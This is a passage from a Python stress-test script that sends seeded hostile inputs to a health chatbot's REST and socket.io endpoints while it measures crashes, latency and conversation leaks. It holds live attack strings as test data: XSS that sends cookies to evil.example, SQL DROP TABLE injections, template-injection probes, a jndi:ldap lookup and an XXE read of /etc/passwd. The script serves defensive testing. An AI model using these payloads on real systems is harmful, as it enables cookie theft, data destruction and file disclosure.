"""Benchmark: thousands of hostile messages at the running servers while two ordinary patients keep chatting.

Why it exists: the assistant's two patient channels (the REST channel for integrations, the widget's
socket.io channel) face the open internet, and every message they let through runs NLU on the Rasa server's
one event loop. One bad input that crashes a handler, leaks one conversation into another or stalls the loop
hurts every patient at once. The unit and e2e tests prove each guard once; this script shows the figures
under a sustained, varied attack: status codes (any 5xx), exceptions and dropped connections, reply latency
of the hostile messages and, separately, of two ordinary patients chatting throughout ("patient A" over REST,
"patient B" over socket.io), whether either ever saw the other's words ("crossings"), the Rasa server's
memory before and after, and whether the servers are still up at the end.

What it sends (generated from a fixed seed, so two runs send the same things): empty and whitespace-only
messages, 100 KB and 1 MB messages, messages just over and at the length limit, control characters and NUL
bytes, ANSI escapes, HTML/script tags, SQL injection, Python format strings, template injection, Rasa
payloads (``/restart``, ``/EXTERNAL_handoff_ended``, ...), JSON oddities as raw bodies (arrays, null,
truncated, invalid UTF-8, deep nesting), wrong content types and methods, bad bearer tokens, bad sender ids,
everyday health questions in 21 languages, emoji, zero-width characters and right-to-left overrides, plus
socket.io oddities (events without a session, forged session tokens, non-object payloads, oversized
packets). Every hostile REST message comes from a fresh sender id, so the per-sender pace (30 a minute)
does not hide the work behind "too fast" replies, except for one deliberate flood sender. The socket.io part
is paced under the per-address limit (all clients are 127.0.0.1), so the production limits stay in force;
``--throughput N`` adds a separate phase that restarts Rasa with the limits raised and floods socket.io.

Run with `make bench-hostile` or ``.venv/bin/python bench/bench_hostile.py [--count 2000] [--json]``.
It trains a model first if the current one is missing (about 2 minutes), then takes about 3 to 4 minutes
by default. It prints a table of figures next to their targets (zero 5xx, zero crossings, p99 under 1 s for
any input, patients answered throughout); it never fails on a missed target, only when the script itself
breaks (the servers do not start, a bug here).
"""

from __future__ import annotations

import argparse
import asyncio
import base64
import contextlib
import http.client
import json
import random
import re
import statistics
import sys
import tempfile
import time
import uuid
from collections import Counter, defaultdict
from collections.abc import Callable
from concurrent.futures import ThreadPoolExecutor
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

import aiohttp
import socketio

sys.path.insert(0, str(Path(__file__).resolve().parents[1]))

from bot.channels.socketio import MAX_PACKET_BYTES
from bot.credentials import rest_token
from bot.processes import REQUEST_MAX_BYTES, ManagedProcess, action_server, free_port, rasa_server
from bot.rasa_api import api_url
from bot.settings import PROJECT_ROOT, Settings
from bot.training import ensure_model

WEBHOOK = "/webhooks/rest/webhook"
P99_TARGET_MS = 1000.0
REST_TIMEOUT = 30.0
SIO_REPLY_TIMEOUT = 10.0
PATIENT_TIMEOUT = 30.0
B_ID = "\x00PATIENT_B\x00"  # replaced by patient B's conversation id when the case runs
HOSTILE_MARKER = "zqmallory"  # in hostile socket.io messages that try to reach patient B: must never reach a patient

# ---------------------------------------------------------------------------------------------------------------
# What to send

ENGLISH = [
    "what does benign mean",
    "tell me about asthma",
    "what should i ask my doctor",
    "how do i take my pills",
    "what is blood pressure",
    "hello",
    "i have a question about my visit",
    "what does hypertension mean",
]

LANGUAGES: dict[str, list[str]] = {
    "es": ["¿Qué significa benigno?", "Me duele la cabeza, ¿qué puedo tomar?"],
    "fr": ["Que veut dire bénin ?", "J'ai de la fièvre depuis deux jours, que faire ?"],
    "de": ["Was bedeutet gutartig?", "Wie oft soll ich meine Tabletten nehmen?"],
    "pt": ["O que significa benigno?", "Posso tomar este remédio com comida?"],
    "it": ["Cosa significa benigno?", "Quando devo prendere la medicina?"],
    "pl": ["Co oznacza łagodny?", "Jak często mam brać leki?"],
    "ru": ["Что значит доброкачественный?", "Как часто нужно мерить давление?"],
    "uk": ["Що означає доброякісний?", "Коли мені треба прийти до лікаря?"],
    "ar": ["ماذا تعني كلمة حميد؟", "كم مرة يجب أن آخذ الدواء؟"],
    "he": ["מה פירוש המילה שפיר?", "מתי לקחת את התרופה?"],
    "fa": ["خوش‌خیم یعنی چه؟", "چند بار در روز باید دارو بخورم؟"],
    "hi": ["सौम्य का क्या मतलब है?", "मुझे दवा कब लेनी चाहिए?"],
    "bn": ["নিরীহ টিউমার মানে কী?", "আমি কখন ওষুধ খাব?"],
    "ur": ["بے ضرر رسولی کا کیا مطلب ہے؟", "مجھے دوا کب لینی چاہیے؟"],
    "zh": ["良性是什么意思？", "我应该多久吃一次药？"],
    "ja": ["良性とはどういう意味ですか？", "薬はいつ飲めばいいですか？"],
    "ko": ["양성이라는 게 무슨 뜻인가요?", "약은 언제 먹어야 하나요?"],
    "vi": ["Lành tính nghĩa là gì?", "Tôi nên uống thuốc khi nào?"],
    "tl": ["Ano ang ibig sabihin ng benign?", "Kailan ko dapat inumin ang gamot ko?"],
    "tr": ["İyi huylu ne demek?", "İlacımı ne zaman almalıyım?"],
    "sw": ["Benign ina maana gani?", "Ninapaswa kumeza dawa lini?"],
}
QUESTIONS = [q for qs in LANGUAGES.values() for q in qs]

WHITESPACE = [" ", "\t", "\n", "\r", "\u00a0", "\u2003", "\u3000", "\u2028", "\u2029", "\x0b", "\x0c", "\u1680"]
EMPTY = ["", " ", "    ", "\t", "\n\n", "\r\n", "\u00a0", "\u3000", "\u2028\u2029", "\x0b\x0c", " \t\n\r "]
HTML = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(document.cookie)>",
    "<svg/onload=alert(1)>",
    '"><script>alert(1)</script>',
    "<iframe src=javascript:alert(1)>",
    '<a href="javascript:alert(1)">hi</a>',
    "</textarea><script>fetch('//evil.example/'+document.cookie)</script>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "<!--",
    "]]>",
    "[click me](javascript:alert(1))",
    "<style>*{display:none}</style>",
    '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>',
]
SQL = [
    "' OR '1'='1",
    "'; DROP TABLE events; --",
    '" OR 1=1 --',
    "1; SELECT * FROM sqlite_master; --",
    "' UNION SELECT sender_id, data FROM events --",
    "Robert'); DROP TABLE students;--",
    "admin'--",
    "%' AND 1=0 UNION SELECT NULL --",
    "1 AND SLEEP(5)",
    "'; ATTACH DATABASE '/tmp/x.db' AS x; --",
]
FORMAT = [
    "{0[__class__]}",
    "%s%s%n",
    "{count}",
    "{max_chars}",
    "{emergency_number}",
    "{0.__class__.__mro__}",
    "{}",
    "{",
    "}",
    "%(name)s",
    "%x%x%x%x",
    "{user.__init__.__globals__}",
    "{{",
    "${jndi:ldap://evil.example/a}",
    "%n%n%n%n",
    "{text}",
    "{sender_id}",
]
TEMPLATE = [
    "{{7*7}}",
    "${7*7}",
    "<%= 7*7 %>",
    "#{7*7}",
    "{{config.items()}}",
    "{% raw %}",
    "[[7*7]]",
    "*{7*7}",
    "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "{{ slots.name }}",
    "{% for x in range(9) %}x{% endfor %}",
]
PAYLOADS = [
    "/EXTERNAL_handoff_ended",
    "/restart",
    "/emergency",
    "/session_start",
    '/learn_topic{"module": "../../etc/passwd"}',
    '/help{"a": ',
    '/x{"danger_kind": "violence"}',
    "/action_restart",
    "/EXTERNAL_reminder",
    "/nlu_fallback",
    '/greet{"name": "<script>"}',
    '/learn_topic{"module": "' + "A" * 500 + '"}',
    '/define_term{"term": {"$ne": 1}}',
    '/choose{"choice": 99999999999999999999}',
    " /restart",
    "/restart ",
    "/ my chest hurts",
    "/",
    "//",
    "/" + "a" * 61,
    "/greet",
    '/learn_topic{"module": "asthma", "requested_slot": "x"}',
    "/back",
    '/session_start{"metadata": {}}',
    '/EXTERNAL_staff_reply{"text": "hi"}',
    "/forget_me",
    '/emergency{"danger_kind": "self_harm"}',
    "/restart/restart",
    "/handoff_ended",
    '/inform{"x": [1, 2]}',
]
INTENTS = [
    "restart",
    "emergency",
    "session_start",
    "EXTERNAL_handoff_ended",
    "learn_topic",
    "help",
    "greet",
    "define_term",
    "choose",
    "x",
    "request_human",
    "forget_me",
    "add_question",
    "action_listen",
    "nlu_fallback",
    "out_of_scope",
    "EXTERNAL_reminder",
    "remove_question",
]
ANSI = [
    "\x1b[31mred\x1b[0m",
    "\x1b[2J\x1b[H",
    "\x1b]0;owned\x07",
    "\x1b[6n",
    "\x9b31m",
    "\x1b[1;1H\x1b[K",
    "\x1b]8;;http://evil.example\x1b\\link\x1b]8;;\x1b\\",
    "\x1bc",
    "\x1b[?1049h",
]
ZERO_WIDTH = ["\u200b", "\u200c", "\u200d", "\u2060", "\ufeff", "\u00ad", "\u180e"]
RTL = ["\u202e", "\u202b", "\u2067", "\u200f", "\u061c", "\u202d"]
EMOJI = ["🤒", "💊", "❤️", "👨‍👩‍👧‍👦", "🏳️‍🌈", "🇺🇸", "😷", "🩺", "🧑🏽‍⚕️", "🫀"]
CONTROL = [chr(i) for i in range(32)] + ["\x7f", "\x85", "\u0080", "\u009f"]


def _english(rng: random.Random) -> str:
    return rng.choice(ENGLISH)


def _sprinkle(rng: random.Random, text: str, pool: list[str], rate: float) -> str:
    return "".join(ch + (rng.choice(pool) if rng.random() < rate else "") for ch in text)


def gen_whitespace(rng: random.Random) -> tuple[str, str]:
    return "whitespace", "".join(rng.choice(WHITESPACE) for _ in range(rng.randint(1, 300)))


def gen_length(rng: random.Random) -> tuple[str, str]:
    size = rng.choice([1999, 2000, 2001, 2002, 2500, rng.randint(2001, 30_000)])
    if size <= 2000:
        words = (_english(rng) + " ") * (size // 10 + 1)
        return "at-limit", words[:size]
    return "over-limit", "".join(rng.choice("abcdefghij ") for _ in range(size))


def gen_control(rng: random.Random) -> tuple[str, str]:
    if rng.random() < 0.3:
        return "control", "".join(rng.choice(CONTROL) for _ in range(rng.randint(1, 50)))
    return "control", _sprinkle(rng, _english(rng), CONTROL, 0.3)


def gen_ansi(rng: random.Random) -> tuple[str, str]:
    return "ansi", rng.choice(ANSI) + _english(rng) + rng.choice(ANSI)


def gen_injection(rng: random.Random) -> tuple[str, str]:
    kind, pool = rng.choice([("html", HTML), ("sql", SQL), ("format", FORMAT), ("template", TEMPLATE)])
    attack = rng.choice(pool)
    shape = rng.randrange(3)
    text = attack if shape == 0 else f"{_english(rng)} {attack}" if shape == 1 else f"{attack} {_english(rng)}"
    return kind, text


def gen_payload(rng: random.Random) -> tuple[str, str]:
    if rng.random() < 0.4:
        return "payload", rng.choice(PAYLOADS)
    intent = rng.choice(INTENTS)
    entities = rng.choice(
        [
            "",
            "{}",
            '{"module": "asthma"}',
            '{"term": "' + "x" * rng.randint(1, 300) + '"}',
            '{"a": ',
            '{"danger_kind": "violence", "priority": "urgent"}',
            "[1, 2]",
            '{"module": null}',
            "{" * 50,
            json.dumps({"nested": {"deeper": {"deepest": list(range(5))}}}),
            '{"text": "\\u0000"}',
        ]
    )
    return "payload", rng.choice(["", " ", "\u200b", "\x00"]) + "/" + intent + entities


def gen_language(rng: random.Random) -> tuple[str, str]:
    question = rng.choice(QUESTIONS)
    return "language", question if rng.random() < 0.6 else f"{question} {rng.choice(EMOJI)}"


def gen_emoji(rng: random.Random) -> tuple[str, str]:
    if rng.random() < 0.3:
        return "emoji", "".join(rng.choice(EMOJI) for _ in range(rng.randint(1, 200)))
    return "emoji", _sprinkle(rng, _english(rng), EMOJI, 0.2)


def gen_zero_width(rng: random.Random) -> tuple[str, str]:
    if rng.random() < 0.3:
        return "zero-width", "".join(rng.choice(ZERO_WIDTH) for _ in range(rng.randint(1, 500)))
    return "zero-width", _sprinkle(rng, _english(rng), ZERO_WIDTH, 0.5)


def gen_rtl(rng: random.Random) -> tuple[str, str]:
    body = rng.choice([_english(rng), rng.choice(PAYLOADS), rng.choice(QUESTIONS)])
    return "rtl", rng.choice(RTL) + body if rng.random() < 0.5 else _sprinkle(rng, body, RTL, 0.2)


def gen_unicode(rng: random.Random) -> tuple[str, str]:
    """Random code points, lone surrogates, private use, non-characters and combining marks included."""
    ranges = [
        (0x20, 0x7E),
        (0xA0, 0x2FF),
        (0x300, 0x36F),
        (0x590, 0x6FF),
        (0xD800, 0xDFFF),
        (0xE000, 0xF8FF),
        (0xFFF0, 0xFFFF),
        (0x1F300, 0x1FAFF),
        (0x4E00, 0x9FFF),
        (0x10FFF0, 0x10FFFF),
    ]
    chars = []
    for _ in range(rng.randint(1, 120)):
        low, high = rng.choice(ranges)
        chars.append(chr(rng.randint(low, high)))
    return "random-unicode", "".join(chars)


GENERATORS: list[tuple[Callable[[random.Random], tuple[str, str]], int]] = [
    (gen_whitespace, 4),
    (gen_length, 4),
    (gen_control, 8),
    (gen_ansi, 4),
    (gen_injection, 16),
    (gen_payload, 14),
    (gen_language, 16),
    (gen_emoji, 6),
    (gen_zero_width, 6),
    (gen_rtl, 6),
    (gen_unicode, 10),
]


def fixed_texts() -> list[tuple[str, str]]:
    """Each of these is sent once (over REST; the short ones over socket.io too)."""
    cases = [("empty", t) for t in EMPTY]
    cases += [
        ("huge-100k", "a" * 100_000),
        ("huge-1m", "x" * 1_000_000),
        ("huge-100k", "é" * 50_000),
        ("over-limit", "b" * 60_000),
        ("over-limit", "a" * 2001),
        ("over-limit", "ab " * 700),
        ("at-limit", "a" * 2000),
        ("at-limit", ("what does benign mean " * 100)[:2000]),
        ("at-limit", "🤒" * 2000),
    ]
    cases += [
        ("control", t)
        for t in [
            "\x00",
            "\x00" * 100,
            "hello\x00world",
            "what does benign mean\x00/restart",
            "\x07\x08\x1b",
            "\x7f" * 10,
            "".join(CONTROL),
            "\x00/restart",
            "\x00/EXTERNAL_handoff_ended",
        ]
    ]
    cases += [("ansi", t) for t in ANSI]
    cases += [("html", t) for t in HTML] + [("sql", t) for t in SQL] + [("format", t) for t in FORMAT]
    cases += [("template", t) for t in TEMPLATE] + [("payload", t) for t in PAYLOADS]
    cases += [("language", q) for q in QUESTIONS]
    cases += [
        ("emoji", "".join(EMOJI)),
        ("emoji", "🤒" * 500),
        ("zero-width", "\u200b" * 1000),
        ("zero-width", "what\u200b does\u200d benign\u2060 mean"),
        ("zero-width", "\ufeff/restart"),
        ("rtl", "\u202ewhat does benign mean"),
        ("rtl", "\u202e/restart"),
        ("rtl", "\u202etrats\u202c/"),
        ("random-unicode", "\ud800"),
        ("random-unicode", "\udfff\ud800"),
        ("random-unicode", "\uffff\ufffe"),
        ("random-unicode", "Z̷̛̖̈a̵̱͝l̶̰̇g̸̜̿o̴̺͋" * 50),
    ]
    return cases


@dataclass
class RestCase:
    kind: str
    body: bytes
    headers: dict[str, str]
    method: str = "POST"
    path: str = WEBHOOK
    label: str = ""  # what exactly it is, for the report (the kind alone for generated text)


@dataclass
class SioCase:
    kind: str
    data: Any  # what the event carries
    session: str = "new"  # new | none (fresh socket, no session) | forged (session_request with `token`)
    token: Any = None
    event: str = "user_uttered"
    expect_reply: bool = True
    oversized: bool = False
    label: str = ""


def json_body(sender: Any, message: Any, **extra: Any) -> bytes:
    payload: dict[str, Any] = {"sender": sender, "message": message, **extra}
    return json.dumps(payload).encode()


def raw_cases(token: str, sender: Callable[[], str]) -> list[RestCase]:
    """Bodies, headers, methods and paths that are not a well-formed message."""
    auth = {"Authorization": f"Bearer {token}"}
    js = {"Content-Type": "application/json", **auth}
    deep = 20_000
    odd: list[tuple[str, bytes]] = [
        ("array", b"[]"),
        ("array of messages", b'[{"sender": "s", "message": "hi"}]'),
        ("string", b'"hello"'),
        ("null", b"null"),
        ("number", b"42"),
        ("-1e309", b"-1e309"),
        ("true", b"true"),
        ("empty body", b""),
        ("{}", b"{}"),
        ("spaces", b"   "),
        ("NUL bytes", b"\x00" * 100),
        ("truncated object", b'{"sender": "s", "message": "hi"'),
        ("truncated key", b'{"sender": "s", "mess'),
        ("invalid UTF-8", b"\xff\xfe\xfd"),
        ("invalid UTF-8 in a string", b'{"sender": "s", "message": "\xff\xfe"}'),
        ("NaN", b"NaN"),
        ("5,000-digit number", b"1" * 5000),
        ("arrays nested 100 deep", b"[" * 100 + b"]" * 100),
        ("arrays nested 1,000 deep", b"[" * 1000 + b"]" * 1000),
        (f"arrays nested {deep:,} deep", b"[" * deep + b"]" * deep),
        ("objects nested 10,000 deep", b'{"a":' * 10_000 + b"1" + b"}" * 10_000),
        ("trailing garbage", json_body(sender(), "hi") + b"garbage"),
        ("trailing NUL", json_body(sender(), "hi") + b"\x00"),
        ("UTF-8 BOM", b"\xef\xbb\xbf" + json_body(sender(), "hello")),
        ("UTF-16 body", json.dumps({"sender": sender(), "message": "hello"}).encode("utf-16")),
        (
            "raw lone surrogate (CESU-8)",
            json.dumps({"sender": sender(), "message": "\ud800 hi"}, ensure_ascii=False).encode(
                "utf-8", "surrogatepass"
            ),
        ),
        ("escaped lone surrogate", json_body(sender(), "\ud800")),
        ("escaped NUL", json_body(sender(), "\u0000")),
        ("escaped low surrogate", json_body(sender(), "hi\udc80there")),
        ("message a number", json_body(sender(), 42)),
        ("message a list", json_body(sender(), ["hi"])),
        ("message an object", json_body(sender(), {"text": "hi"})),
        ("message null", json_body(sender(), None)),
        ("message true", json_body(sender(), True)),
        ("message 1e308", json_body(sender(), 1e308)),
        ("duplicate keys", b'{"sender": "s1", "sender": "s2", "message": "hi", "message": "/restart"}'),
        ("message NaN", b'{"sender": "' + sender().encode() + b'", "message": NaN}'),
        (
            "metadata nested 5,000 deep",
            b'{"sender": "'
            + sender().encode()
            + b'", "message": "hi", "metadata": '
            + b'{"a":' * 5000
            + b"1"
            + b"}" * 5000
            + b"}",
        ),
        ("metadata 10 KB", json_body(sender(), "hi", metadata={"x": "y" * 10_000})),
        ("metadata a list", json_body(sender(), "hi", metadata=["a"])),
        (
            "metadata names another channel",
            json_body(sender(), "hi", metadata={"input_channel": "socketio", "sender_id": "someone-else"}),
        ),
        ("body names another channel", json_body(sender(), "hi", input_channel="socketio", recipient_id="x")),
        ("2,000 extra keys", json_body(sender(), "hi", **{f"k{i}": i for i in range(2000)})),
    ]
    cases = [RestCase("json-odd", body, dict(js), label=label) for label, body in odd]
    valid = json_body(sender(), "what does benign mean")
    for ctype, body in [
        ("text/plain", valid),
        ("application/x-www-form-urlencoded", b"sender=form-1&message=hi"),
        (
            "multipart/form-data; boundary=xx",
            b'--xx\r\nContent-Disposition: form-data; name="message"\r\n\r\nhi\r\n--xx--\r\n',
        ),
        (None, valid),
        ("application/xml", b"<message sender='x'>hi</message>"),
        ("application/json; charset=utf-16", json_body(sender(), "hello")),
        ("application/json", '{"sender": "lat1", "message": "caf\u00e9"}'.encode("latin-1")),
        ("application/json" + "x" * 5000, valid),
        ("", valid),
    ]:
        headers = {**auth, "Content-Type": ctype} if ctype is not None else dict(auth)
        cases.append(RestCase("content-type", body, headers, label=f"Content-Type {str(ctype)[:40]!r}"))
    for method in ["GET", "PUT", "DELETE", "PATCH", "OPTIONS", "HEAD", "TRACE", "PROPFIND"]:
        cases.append(
            RestCase("method", json_body(sender(), "hi") if method != "GET" else b"", dict(js), method, label=method)
        )
    for path in [
        f"{WEBHOOK}/",
        f"{WEBHOOK}/../../conversations/x/tracker",
        f"{WEBHOOK}%00",
        f"{WEBHOOK}?sender=x",
        "/webhooks/rest/",
        "/webhooks/rest/webhook/" + "a" * 5000,
        "/webhooks/REST/webhook",
        "/webhooks/socketio/webhook",
        "/conversations/x/tracker",
        f"{WEBHOOK}#frag",
    ]:
        cases.append(RestCase("path", json_body(sender(), "hi"), dict(js), path=path, label=path[:60]))
    for header in [
        None,
        "Bearer wrong",
        "Bearer ",
        "Bearer",
        f"Basic {base64.b64encode(token.encode()).decode()}",
        f"bearer {token}",
        f"Bearer {token} extra",
        f"Bearer {token[:-1]}",
        f"Bearer  {token}  ",
        f"Token {token}",
        "Bearer " + "x" * 8000,
        "Bearer " + "x" * 60_000,
    ]:
        headers = {"Content-Type": "application/json"}
        if header is not None:
            headers["Authorization"] = header
        cases.append(
            RestCase("auth", json_body(sender(), "hello"), headers, label=str(header).replace(token, "<token>")[:40])
        )
    cases.append(
        RestCase(
            "auth",
            json_body(sender(), "hello"),
            {"Content-Type": "application/json"},
            path=f"{WEBHOOK}?token={token}",
            label="token in the query string",
        )
    )
    for bad in [
        "a" * 129,
        "a" * 10_000,
        "a/b",
        "../../etc/passwd",
        "пациент",
        "患者",
        "😀",
        "",
        " ",
        "a b",
        "a\x00b",
        "a\nb",
        "%2F",
        "a.b",
        "*",
        None,
        123,
        ["a"],
        {"id": "a"},
        True,
    ]:
        cases.append(RestCase("sender", json_body(bad, "hello"), dict(js), label=f"sender {str(bad)[:30]!r}"))
    cases.append(RestCase("sender", json.dumps({"message": "hello"}).encode(), dict(js), label="no sender"))
    for good in ["a" * 128, "-", "_", "default"]:
        cases.append(RestCase("sender", json_body(good, "hello"), dict(js), label=f"sender {good[:30]!r}"))
    return cases


def describe(kind: str, text: str, fixed: bool = False) -> str:
    """A label for the report: the kind, what a fixed case is (escaped, short), and any lone surrogate."""
    label = f"{kind} {text[:24]!r}" if fixed else kind
    return label + (", with a lone surrogate" if any(0xD800 <= ord(c) <= 0xDFFF for c in text) else "")


def build_plan(seed: int, count: int, sio_count: int, token: str) -> tuple[list[RestCase], list[SioCase]]:
    """The whole attack, deterministic for a seed (sender ids and markers aside)."""
    rng = random.Random(seed)
    numbers = iter(range(10**9))
    run = uuid.uuid4().hex[:6]

    def sender() -> str:
        return f"h{run}-{next(numbers):05d}"

    js = {"Content-Type": "application/json", "Authorization": f"Bearer {token}"}
    texts = fixed_texts()
    rest: list[RestCase] = [
        RestCase(kind, json_body(sender(), text), dict(js), label=describe(kind, text, True)) for kind, text in texts
    ]
    rest += raw_cases(token, sender)
    flood = f"flood{run}"
    rest += [RestCase("flood", json_body(flood, _english(rng)), dict(js)) for _ in range(40)]
    generators, weights = zip(*GENERATORS, strict=True)
    while len(rest) < count - sio_count:
        kind, text = rng.choices(generators, weights)[0](rng)
        rest.append(RestCase(kind, json_body(sender(), text), dict(js), label=describe(kind, text)))
    rng.shuffle(rest)

    sio: list[SioCase] = []
    if sio_count <= 0:
        return rest, sio
    mallory = f"{HOSTILE_MARKER}{uuid.uuid4().hex[:8]}"

    def shown(value: Any) -> str:
        return json.dumps(value).replace(json.dumps(B_ID)[1:-1], "<B's id>")[:40]

    sio += [
        SioCase(
            "sio-oversized",
            {"message": "a" * size},
            expect_reply=False,
            oversized=True,
            label=f"{size:,}-character packet",
        )
        for size in (70_000, 100_000, 1_000_000)
    ]
    sio += [
        SioCase(
            "sio-no-session",
            {"message": f"hello {mallory}"},
            session="none",
            expect_reply=False,
            label="message before any session",
        ),
        SioCase(
            "sio-no-session",
            {"message": f"hello {mallory}", "session_id": B_ID},
            session="none",
            expect_reply=False,
            label="message before any session, naming B's id",
        ),
    ]
    for token_value in [
        B_ID,
        f"{B_ID}.{'0' * 43}",
        f"{B_ID}.",
        f"{B_ID}.{B_ID}",
        42,
        ["x"],
        {"a": 1},
        "x" * 10_000,
        "../..",
        ".",
        "",
        True,
    ]:
        sio.append(
            SioCase(
                "sio-forged-session",
                {"message": f"what does benign mean {mallory}"},
                session="forged",
                token=token_value,
                label=f"session_request {shown(token_value)}",
            )
        )
    sio.append(SioCase("sio-odd-data", None, expect_reply=False, label="user_uttered with no argument"))
    sio += [
        SioCase("sio-odd-data", data, label=f"user_uttered {shown(data)}")
        for data in [
            42,
            "just a string",
            ["a"],
            {"message": 42},
            {"message": None},
            {"message": ["x"]},
            {"message": {"text": "hi"}},
            {"message": f"hi {mallory}", "session_id": B_ID},
            {"message": "hi", "metadata": {"x": "y" * 5000}, "customData": {"language": "xx"}},
            {},
        ]
    ]
    sio += [
        SioCase("sio-odd-event", None, event=name, expect_reply=False, label=f"event {name!r}, no argument")
        for name in ["session_request", "admin", "disconnect", "connect", "bot_uttered"]
    ]
    short = [(kind, text) for kind, text in texts if len(text) <= 60_000]
    sio += [
        SioCase(kind, {"message": text}, label=describe(kind, text, True))
        for kind, text in rng.sample(short, min(len(short), sio_count // 3))
    ]
    while len(sio) < sio_count:
        kind, text = rng.choices(generators, weights)[0](rng)
        sio.append(SioCase(kind, {"message": text}, label=describe(kind, text)))
    head, tail = sio[:3], sio[3:]  # oversized packets spread through the run, not all at the start
    rng.shuffle(tail)
    for case in head:
        tail.insert(rng.randrange(len(tail) + 1), case)
    return rest, tail


# ---------------------------------------------------------------------------------------------------------------
# Sending


@dataclass
class Outcome:
    transport: str  # rest | socketio
    kind: str
    status: str  # an HTTP status, or for socket.io: reply | no reply | dropped | error
    latency_ms: float | None
    error: str = ""
    refusal: str = ""
    texts: list[str] = field(default_factory=list)
    label: str = ""
    silent: bool = False  # REST: a 200 from the webhook with no message in it
    expected: bool = True  # socket.io: the outcome the case was written for (a reply, a drop, or silence)


REFUSALS = {
    "too long for me": "too long",
    "did not get any words": "empty",
    "can't take that command": "command",
    "faster than i can read": "too fast",
}


def refusal_of(texts: list[str]) -> str:
    joined = " ".join(texts).lower()
    return next((name for fragment, name in REFUSALS.items() if fragment in joined), "")


def http_call(host: str, port: int, case: RestCase, timeout: float = REST_TIMEOUT) -> Outcome:
    """One request on its own connection. A server that answers (413) and closes while the body is still being
    sent is read, not counted as an error."""
    started = time.perf_counter()
    conn = http.client.HTTPConnection(host, port, timeout=timeout)
    try:
        with contextlib.suppress(BrokenPipeError, ConnectionResetError):  # the answer may already be waiting
            conn.request(case.method, case.path, body=case.body, headers=case.headers)
        response = conn.getresponse()
        raw = response.read()
        latency = (time.perf_counter() - started) * 1000
        texts: list[str] = []
        silent = False
        if response.status == 200 and case.method == "POST" and case.path == WEBHOOK:
            try:
                texts = [str(m.get("text") or "") for m in json.loads(raw) if isinstance(m, dict)]
            except ValueError:
                texts = ["<not JSON>"]
            silent = not texts
        return Outcome(
            "rest",
            case.kind,
            str(response.status),
            latency,
            refusal=refusal_of(texts),
            texts=texts,
            label=case.label or case.kind,
            silent=silent,
        )
    except (OSError, http.client.HTTPException) as exc:
        return Outcome(
            "rest",
            case.kind,
            "error",
            (time.perf_counter() - started) * 1000,
            error=type(exc).__name__,
            label=case.label or case.kind,
        )
    finally:
        conn.close()


class Widget:
    """One socket.io client as the widget uses it; records replies and disconnects."""

    def __init__(self, url: str) -> None:
        self.url = url
        self.http: aiohttp.ClientSession | None = None  # one per widget, kept across reconnections
        self.client = self._new_client()
        self.received: list[dict[str, Any]] = []
        self.token: str | None = None

    def _new_client(self) -> socketio.AsyncClient:
        client = socketio.AsyncClient(reconnection=False, http_session=self.http)
        client.on("bot_uttered", self._bot)
        client.on("session_confirm", self._confirm)
        return client

    def _bot(self, data: Any) -> None:
        self.received.append(data if isinstance(data, dict) else {"text": str(data)})

    def _confirm(self, token: Any) -> None:
        self.token = str(token)

    @property
    def session(self) -> str:
        return (self.token or "").split(".")[0]

    @property
    def alive(self) -> bool:
        """Connected, as far as engine.io knows: when the server drops a polling connection, python-socketio 5.8
        leaves ``connected`` True while engine.io says "disconnected"."""
        return bool(self.client.connected) and self.client.eio.state == "connected"

    async def connect(self) -> None:
        if self.alive:
            return
        await self.close()
        if self.http is None:
            self.http = aiohttp.ClientSession(cookie_jar=aiohttp.DummyCookieJar())
        self.client = self._new_client()
        await self.client.connect(self.url, transports=["polling"], wait_timeout=10)

    async def new_session(self, token: Any = None, timeout: float = 10.0) -> str | None:
        self.token = None
        await self.client.emit("session_request", {"session_id": token})
        deadline = time.monotonic() + timeout
        while time.monotonic() < deadline and self.token is None and self.alive:
            await asyncio.sleep(0.01)
        return self.token

    async def first_reply(self, since: int, timeout: float, started: float | None = None) -> float | None:
        """Seconds from ``started`` (a perf_counter reading taken before the emit; default now) until a reply
        beyond the first ``since`` arrived; None if none did within ``timeout`` (or the connection went)."""
        started = time.perf_counter() if started is None else started
        while time.perf_counter() - started < timeout:
            if len(self.received) > since:
                return time.perf_counter() - started
            if not self.alive:
                return None
            await asyncio.sleep(0.005)
        return None

    async def close(self) -> None:
        with contextlib.suppress(Exception):  # after a drop, socket.io may still think it is connected
            if self.client.connected:
                await self.client.disconnect()

    async def shutdown(self) -> None:
        await self.close()
        writer = getattr(self.client.eio, "write_loop_task", None)
        if writer is not None:  # it sends the last packets after disconnect() returns, and needs the session
            with contextlib.suppress(Exception):
                await asyncio.wait_for(writer, timeout=5)
        if self.http is not None:
            await self.http.close()


class Pacer:
    """At most one socket.io message per ``interval`` seconds across every hostile client."""

    def __init__(self, interval: float) -> None:
        self.interval = interval
        self.next_at = 0.0
        self.lock = asyncio.Lock()

    async def wait(self) -> None:
        if self.interval <= 0:
            return
        async with self.lock:
            now = time.monotonic()
            if self.next_at > now:
                await asyncio.sleep(self.next_at - now)
            self.next_at = max(now, self.next_at) + self.interval


@dataclass
class Run:
    """Everything the phases share and record."""

    settings: Settings
    token: str
    marker_a: str
    marker_b: str
    outcomes: list[Outcome] = field(default_factory=list)
    # per patient message: (when it was sent, ms to the answer or None if not answered, what came back)
    patients: dict[str, list[tuple[float, float | None, str]]] = field(default_factory=lambda: defaultdict(list))
    patient_texts: dict[str, list[str]] = field(default_factory=lambda: defaultdict(list))
    b_session: str = ""
    hijacks: int = 0
    attack_started: float = 0.0
    attack_ended: float = 0.0
    rest_seconds: float = 0.0
    sio_seconds: float = 0.0
    pace_probe: dict[str, int] = field(default_factory=dict)
    raw_packets: dict[str, str] = field(default_factory=dict)
    log_errors: dict[str, int] = field(default_factory=dict)
    rss_samples: list[float] = field(default_factory=list)
    sio_connect_errors: Counter[str] = field(default_factory=Counter)


async def sio_hostile(run: Run, cases: list[SioCase], pacer: Pacer, progress: Callable[[], None]) -> None:
    widget = Widget(run.settings.rasa_url)
    for case in cases:
        try:
            if case.session == "none":
                await widget.close()
            await widget.connect()
        except (socketio.exceptions.ConnectionError, OSError, TimeoutError) as exc:
            run.sio_connect_errors[type(exc).__name__] += 1
            run.outcomes.append(
                Outcome(
                    "socketio",
                    case.kind,
                    "error",
                    None,
                    error=f"connect {type(exc).__name__}",
                    label=case.label or case.kind,
